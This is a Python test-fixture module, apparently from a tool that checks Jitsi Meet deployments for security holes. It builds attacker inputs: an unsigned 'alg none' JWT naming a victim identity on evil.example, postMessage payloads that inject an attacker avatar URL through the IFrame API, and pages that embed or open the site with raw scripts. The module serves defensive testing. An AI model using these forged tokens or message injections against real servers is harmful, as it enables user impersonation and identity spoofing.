"""Inputs of attackers: a forged token, a page that embeds the site, a page that opens it in a new window."""

from __future__ import annotations

import base64
import json
from typing import Any

from markupsafe import Markup

from hardener.proof.evidence.site import HOST
from hardener.system import templates

EVIL = "evil.example"
SEED = {
    "features/base/settings": json.dumps(
        {"displayName": "Victim", "email": f"victim@{EVIL}", "avatarURL": f"https://av.{EVIL}/seed.png"}
    )
}
SAY_AVATAR = (
    "other.postMessage({ postis: true, scope: 'jitsi_meet_external_api_7', method: 'message', params:"
    f" {{ type: 'request', id: 1, name: 'avatar-url', data: ['https://av.{EVIL}/opener.png'] }} }}, '*');"
    "other.postMessage(JSON.stringify({ postis: true, scope: 'jitsi_meet_external_api_7', method: 'message', params:"
    f" {{ type: 'event', data: {{ name: 'avatar-url', data: ['https://av.{EVIL}/opener.png'] }} }} }}), '*');"
)


def token() -> str:
    """Return an unsigned JWT that names an avatar and an e-mail address."""

    def part(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    user = {"name": "Victim", "avatar": f"https://avatar.{EVIL}/a.png", "email": f"victim@{EVIL}", "id": "1"}
    claims = {"aud": "jitsi", "iss": "x", "sub": HOST, "room": "*", "exp": 4102444800, "context": {"user": user}}
    return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(claims)}.x"


def embedding(options: dict[str, Any], then: str = "", first: str = "") -> str:
    """Return an embedding page that uses the IFrame API, and reports what it receives.

    ``first`` and ``then`` are scripts of ours: they go into the page as they are.
    """
    return templates.render(
        __package__,
        "embedding.html",
        host=HOST,
        options={"roomName": "ROOM", "width": 1200, "height": 760} | options,
        then=Markup(then),  # noqa: S704
        first=Markup(first),  # noqa: S704
    )


def opening(then: str) -> str:
    """Return a page that opens a room in a new window, and listens and talks to it as an embedding page would.

    ``then`` is a script of ours: it goes into the page as it is.
    """
    return templates.render(__package__, "opening.html", host=HOST, then=Markup(then))  # noqa: S704
